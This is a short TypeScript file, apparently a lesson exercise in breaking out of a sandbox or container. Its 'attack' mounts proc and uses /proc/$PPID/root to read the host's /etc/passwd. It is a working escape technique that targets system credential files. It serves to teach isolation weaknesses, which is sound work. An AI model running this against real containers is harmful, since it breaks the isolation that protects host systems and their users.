/** Out of lesson 4: the processes of the host are still there, and proc shows the root of each. */
import { type BreakOut, execute, mountAt } from 'tsrun/lessons/kit.ts';

export default {
  attack(b) {
    mountAt(b, 'proc', '/tmp/proc');
    // Of any process of the host; the one that made this one is always to be seen.
    execute(b, ['sh', '-c', 'head -n 1 /tmp/proc/$PPID/root/etc/passwd']);
  },
} satisfies BreakOut;
